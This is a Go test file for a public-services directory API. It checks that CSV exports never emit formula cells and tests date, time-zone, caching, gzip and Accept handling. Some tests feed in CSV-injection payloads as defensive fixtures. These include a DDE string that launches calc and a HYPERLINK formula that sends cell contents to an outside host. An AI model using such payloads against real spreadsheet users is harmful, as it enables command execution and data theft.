package api_test

import (
	"encoding/csv"
	"strings"
	"sync"
	"testing"
	"time"

	"carnet/api/apitest"
	"carnet/models"
)

// Exports: no cell a spreadsheet runs as a formula, conditional requests and
// staleness by the right day and clock, compression as the client asks.

// sec11 (guard): the standard's telephone column is left unprotected by
// FormulaSafe because an E.164 phone starts with +; a file's cell that is
// a formula never gets there.
func TestSec11ExportTelephoneFormula(t *testing.T) {
	e := apitest.New(t)
	for _, ph := range []string{`+33 4 92 00 00 00+cmd|' /C calc'!A0`, `=HYPERLINK("http://x.fr")`, `-2+3+cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`} {
		rows := []obj{{"id": "k-1", "nom": "Maison de Gap", "pivot": "00000000000000", "commune": "Gap", "code_postal": "05000",
			"adresse": "3 rue Colonel Roux", "date_maj": "2023-05-01", "services": "Aide aux démarches administratives", "telephone": ph}}
		r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/sync/hub/import", Token: e.Admin, Body: rows})
		if r.Code != 200 {
			t.Fatalf("import %q: %d %s", ph, r.Code, r.Body)
		}
		x := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv"})
		if strings.Contains(x.Body.String(), "calc") || strings.Contains(x.Body.String(), "HYPERLINK") {
			t.Errorf("phone %q exported: %s", ph, x.Body)
		}
	}
}

// A place's scheduled closure starts on a day with no change in the log:
// the export made that day differs (its ETag names the day), and a reuser
// who revalidates with If-Modified-Since, as curl -z and wget -N do, must
// get it, not 304 on the previous day's Last-Modified.
func TestSec11ExportIfModifiedSinceAcrossDays(t *testing.T) {
	now := time.Date(2026, 12, 20, 10, 0, 0, 0, time.UTC)
	var mu sync.Mutex
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	e := apitest.New(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*time.Hour))
	id := str(createActor(t, e, validActor("Médiathèque"))["id"])
	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/actors/" + id, Token: e.Admin,
		Body: obj{"status": "temporarily_closed", "closed_from": "2026-12-24", "closed_until": "2027-01-02", "closure_reason": "Fermeture annuelle"}}); r.Code != 200 {
		t.Fatalf("PATCH: %d %s", r.Code, r.Body)
	}
	for _, format := range []string{"standard-json", "geojson"} {
		first := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + format})
		lm := first.Header().Get("Last-Modified")
		if first.Code != 200 || lm == "" {
			t.Fatalf("%s: %d, Last-Modified %q", format, first.Code, lm)
		}
		mu.Lock()
		now = now.Add(5 * 24 * time.Hour) // the 25th: closed since yesterday
		mu.Unlock()
		again := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + format, Header: map[string]string{"If-Modified-Since": lm}})
		if again.Code != 200 {
			t.Errorf("%s: If-Modified-Since the previous export's Last-Modified, a day later: %d, want 200 (the export of the day differs: %s → %s)",
				format, again.Code, first.Header().Get("ETag"), again.Header().Get("ETag"))
		}
	}
}

// A closure overseas starts at the place's own midnight, not Paris's: the
// export kept since Paris's midnight must not go on showing the place open
// until the next change or the next Paris day (Tahiti's day begins eleven
// hours after Paris's in winter).
func TestSec11ExportOverseasDayStartsAtLocalMidnight(t *testing.T) {
	now := time.Date(2026, 12, 24, 0, 30, 0, 0, time.UTC) // Paris 24th 01:30, Papeete 23rd 14:30
	var mu sync.Mutex
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	e := apitest.New(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*time.Hour))
	id := str(createActor(t, e, obj{"name": "Médiathèque de Papeete",
		"address": obj{"street": "1 rue Jeanne d'Arc", "postal_code": "98714", "commune": "Papeete", "insee_code": "98735"}})["id"])
	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/actors/" + id, Token: e.Admin,
		Body: obj{"status": "temporarily_closed", "closed_from": "2026-12-24", "closed_until": "2027-01-02", "closure_reason": "Fermeture annuelle"}}); r.Code != 200 {
		t.Fatalf("PATCH: %d %s", r.Code, r.Body)
	}
	status := func() string {
		t.Helper()
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/geojson"})
		var fc struct {
			Features []struct {
				Properties struct {
					Status string `json:"status"`
				} `json:"properties"`
			} `json:"features"`
		}
		r.JSON(&fc)
		if r.Code != 200 || len(fc.Features) != 1 {
			t.Fatalf("export: %d %s", r.Code, r.Body)
		}
		return fc.Features[0].Properties.Status
	}
	if got := status(); got != "active" {
		t.Fatalf("before Papeete's midnight: %s, want active", got)
	}
	mu.Lock()
	now = time.Date(2026, 12, 24, 11, 0, 0, 0, time.UTC) // Paris 24th 12:00, Papeete 24th 01:00
	mu.Unlock()
	if r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/actors/" + id}); r.Map()["status"] != "temporarily_closed" {
		t.Fatalf("the place itself: %v", r.Map()["status"])
	}
	if got := status(); got != "temporarily_closed" {
		t.Errorf("after Papeete's midnight the export still says %s (kept since Paris's midnight)", got)
	}
}

// Freshness turns with the date of the server's clock (UTC here), an hour
// after Paris's midnight: the export kept since Paris's midnight must not
// go on calling fresh a place that became stale at UTC's.
func TestSec11ExportStaleTurnsAtTheClocksMidnight(t *testing.T) {
	now := time.Date(2025, 12, 20, 12, 0, 0, 0, time.UTC)
	var mu sync.Mutex
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	set := func(t time.Time) { mu.Lock(); now = t; mu.Unlock() }
	e := apitest.New(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*3*time.Hour))
	createActor(t, e, validActor("Médiathèque")) // checked on 2025-12-20
	// Twelve months to the day make a record stale (months_since_check 12):
	// on the 20th at UTC's midnight, not at Paris's, an hour earlier.
	set(time.Date(2026, 12, 19, 23, 30, 0, 0, time.UTC)) // Paris 20th 00:30: still fresh (UTC 19th)
	stale := func() string {
		t.Helper()
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/quality-csv"})
		lines := strings.Split(strings.TrimSpace(r.Body.String()), "\n")
		if r.Code != 200 || len(lines) != 2 {
			t.Fatalf("export: %d %s", r.Code, r.Body)
		}
		head, row := strings.Split(lines[0], ","), strings.Split(lines[1], ",")
		for i, h := range head {
			if h == "stale" && i < len(row) {
				return row[i]
			}
		}
		t.Fatalf("no stale column: %s", r.Body)
		return ""
	}
	if got := stale(); got != "false" {
		t.Fatalf("before UTC's midnight: stale %s", got)
	}
	set(time.Date(2026, 12, 20, 0, 30, 0, 0, time.UTC))
	if got := stale(); got != "true" {
		t.Errorf("after UTC's midnight: stale %s, want true", got)
	}
}

// sec12: a client that refuses gzip (RFC 9110 §12.4.2: a qvalue of 0 in
// any of its spellings, the parameter's name in either case) gets the
// export uncompressed; it used to get gzip bytes it had said it could not
// read whenever q was written 0.0, 0.00, 0.000 or Q=0.
func TestSec12ExportHonoursGzipRefusedInEverySpelling(t *testing.T) {
	e := apitest.New(t)
	createActor(t, e, validActor("Médiathèque"))
	for _, ae := range []string{"gzip;q=0", "gzip;q=0.0", "gzip;q=0.00", "gzip;q=0.000", "gzip; Q=0", "GZIP;q=0.0", "gzip ; q=0", "identity, gzip;q=0.00", "br, gzip;level=1;q=0"} {
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv", Header: map[string]string{"Accept-Encoding": ae}})
		if r.Code != 200 || r.Header().Get("Content-Encoding") != "" {
			t.Errorf("Accept-Encoding %q: %d, Content-Encoding %q, want 200 uncompressed", ae, r.Code, r.Header().Get("Content-Encoding"))
		}
	}
	for _, ae := range []string{"gzip", "gzip;q=0.5", "deflate, gzip;q=1.0", "GZip", "gzip;q=0.001"} {
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv", Header: map[string]string{"Accept-Encoding": ae}})
		if r.Code != 200 || r.Header().Get("Content-Encoding") != "gzip" {
			t.Errorf("Accept-Encoding %q: %d, Content-Encoding %q, want 200 gzip", ae, r.Code, r.Header().Get("Content-Encoding"))
		}
	}
}

// sec17: the coordinators' list of records to check again (issue 11, item
// 5: « not checked for 12 months ») filtered by the store's clock but
// counted months_since_check and the quality's freshness with the wall
// clock of the handler, so the two disagreed whenever the clocks did (a
// test's clock, a replica's); and the cutoff, today minus N months by
// time.AddDate, ran over the end of a shorter month: on 30 March, with
// months=1, a record checked on 1 March (not yet a month ago) was listed.
// The edges: checked exactly N months ago is N months old, listed that
// day and stale at 12, as months_since_check says (the list kept it until
// the next day while the field already said 12); a record checked on 31
// January is one month old on 28 February.
func TestSec17StaleListFollowsTheStoreClock(t *testing.T) {
	var mu sync.Mutex
	now := time.Date(2027, 3, 30, 10, 0, 0, 0, time.UTC)
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	e := apitest.New(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*time.Hour))
	dated := func(id, day string) obj {
		return merge(partnerActor(id, "Lieu "+id), obj{"producer_updated_on": day})
	}
	res := syncActors(t, e, "", dated("edge-12", "2026-03-30"), dated("over-12", "2026-03-29"), dated("under-12", "2026-03-31"),
		dated("feb-28", "2027-02-28"), dated("mar-01", "2027-03-01"))
	for _, r := range res.Results {
		if r.ID == "" {
			t.Fatalf("sync: %+v", res)
		}
	}
	type item struct {
		SourceID         string `json:"source_id"`
		CheckedOn        string `json:"checked_on"`
		MonthsSinceCheck int    `json:"months_since_check"`
		Quality          struct {
			Stale bool `json:"stale"`
		} `json:"quality"`
	}
	list := func(query string) map[string]item {
		t.Helper()
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/quality/stale?limit=100" + query, Token: e.Admin})
		if r.Code != 200 {
			t.Fatalf("%s: %d %s", query, r.Code, r.Body)
		}
		var l struct{ Data []item }
		r.JSON(&l)
		out := map[string]item{}
		for _, it := range l.Data {
			out[it.SourceID] = it
		}
		return out
	}
	got := list("")
	if it, ok := got["edge-12"]; !ok || it.MonthsSinceCheck != 12 || !it.Quality.Stale {
		t.Errorf("checked exactly 12 months ago: %+v (listed %v), want 12 months and stale", it, ok)
	}
	if it, ok := got["under-12"]; ok {
		t.Errorf("checked 12 months less a day ago: listed %+v", it)
	}
	if it, ok := got["over-12"]; !ok || it.MonthsSinceCheck != 12 || !it.Quality.Stale {
		t.Errorf("checked 12 months and a day ago: %+v (listed %v), want 12 months and stale", it, ok)
	}
	got = list("&months=1")
	if it, ok := got["feb-28"]; !ok || it.MonthsSinceCheck != 1 {
		t.Errorf("checked on 28 February, on 30 March with months=1: %+v (listed %v), want listed, 1 month", it, ok)
	}
	if it, ok := got["mar-01"]; ok {
		t.Errorf("checked on 1 March, on 30 March with months=1: listed %+v", it)
	}
	// The next day, 31 March 2027, the record checked on 31 March 2026
	// reaches 12 months: listed, 12 months, stale.
	mu.Lock()
	now = now.Add(24 * time.Hour)
	mu.Unlock()
	if it, ok := list("")["under-12"]; !ok || it.MonthsSinceCheck != 12 || !it.Quality.Stale {
		t.Errorf("the day the record reaches 12 months: %+v (listed %v)", it, ok)
	}
}

// TestExportCellsNeverFormulas: the open data CSV export protected the
// free-text columns it knew of (names, addresses, presentations) but not
// the others a writer fills freely: a structure's manager setting its
// « producer » to =HYPERLINK(…), or a partner its source_id, put a formula
// in the « source » or « id » cell of the public file that every reuser
// opens in a spreadsheet.
func TestExportCellsNeverFormulas(t *testing.T) {
	e := apitest.New(t)
	a := str(createActor(t, e, validActor("Médiathèque"))["id"])
	createService(t, e, merge(validService(a, "Atelier"), obj{"status": "published"}))
	_, mgr := e.Account("gestion@example.fr", map[string]models.Role{a: models.RoleManager}, models.Territory{})
	formula := `=HYPERLINK("http://x.example/?"&A1,"Cliquez")`
	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/actors/" + a, Token: mgr, ContentType: "application/merge-patch+json",
		Body: obj{"producer": formula}}); r.Code != 200 {
		t.Fatalf("producer: %d %s", r.Code, r.Body)
	}
	_, partner := e.Partner("Hub", []string{"hub"}, []string{models.ScopeSyncWrite, models.ScopeDirectoryWrite})
	if r := e.Do(apitest.Request{Method: "PUT", Path: "/api/v1/sync/hub/actors", Token: partner,
		Body: obj{"actors": []obj{partnerActor("+cmd|' /C calc'!A0", "Point hub")}}}); r.Code != 200 {
		t.Fatalf("sync: %d %s", r.Code, r.Body)
	}
	for _, f := range []string{"standard-csv", "quality-csv"} {
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + f})
		rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !strings.HasPrefix(cell, "+33") {
					t.Errorf("%s: column %s starts a formula: %q", f, rows[0][i], cell)
				}
			}
		}
	}
}

// The exports answered their own file whatever Accept asked: text/csv on
// standard-json got JSON, application/json or application/geo+json on a
// CSV export got CSV, though every other operation refuses a header that
// names only types it does not answer (406). Each format answers its one
// media type: a header that names only others is refused, naming it; a
// wildcard that covers it, or the type itself, gets the file.
func TestExportRefusesAnAcceptItDoesNotAnswer(t *testing.T) {
	e := apitest.New(t)
	createActor(t, e, validActor("Médiathèque"))
	for _, tc := range []struct {
		format, accept string
		code           int
		produces       string
	}{
		{"standard-json", "text/csv", 406, "application/json"},
		{"standard-csv", "application/json", 406, "text/csv"},
		{"standard-csv", "application/geo+json", 406, "text/csv"},
		{"quality-csv", "application/geo+json", 406, "text/csv"},
		{"quality-csv", "application/json;q=1, application/geo+json;q=0.5", 406, "text/csv"},
		{"geojson", "text/csv", 406, "application/geo+json"},
		{"data-inclusion-services", "text/*", 406, "application/json"},
		{"standard-csv", "text/csv, */*;q=0.1", 200, "text/csv"},
		{"standard-csv", "text/*", 200, "text/csv"},
		{"standard-csv", "application/json, text/plain, */*", 200, "text/csv"},
		{"quality-csv", "text/csv; charset=utf-8", 200, "text/csv"},
		{"standard-json", "application/json", 200, "application/json"},
		{"standard-json", "application/*", 200, "application/json"},
		{"geojson", "application/geo+json", 200, "application/geo+json"},
		{"geojson", "*/*", 200, "application/geo+json"},
		{"standard-json", "", 200, "application/json"},
	} {
		h := map[string]string{}
		if tc.accept != "" {
			h["Accept"] = tc.accept
		}
		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + tc.format, Header: h})
		if r.Code != tc.code {
			t.Errorf("%s, Accept %q: %d %s, want %d", tc.format, tc.accept, r.Code, r.Header().Get("Content-Type"), tc.code)
			continue
		}
		if tc.code == 200 {
			if !strings.HasPrefix(r.Header().Get("Content-Type"), tc.produces) {
				t.Errorf("%s, Accept %q: Content-Type %q", tc.format, tc.accept, r.Header().Get("Content-Type"))
			}
			continue
		}
		// The problem names the header to change (probe 38a, M5) and the type to ask.
		if ct := r.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/problem+json") || !strings.Contains(r.Body.String(), tc.produces) ||
			!hasAll(fields(t, r), "Accept") {
			t.Errorf("%s, Accept %q: %s %s, want a problem naming %s", tc.format, tc.accept, ct, r.Body, tc.produces)
		}
	}
}
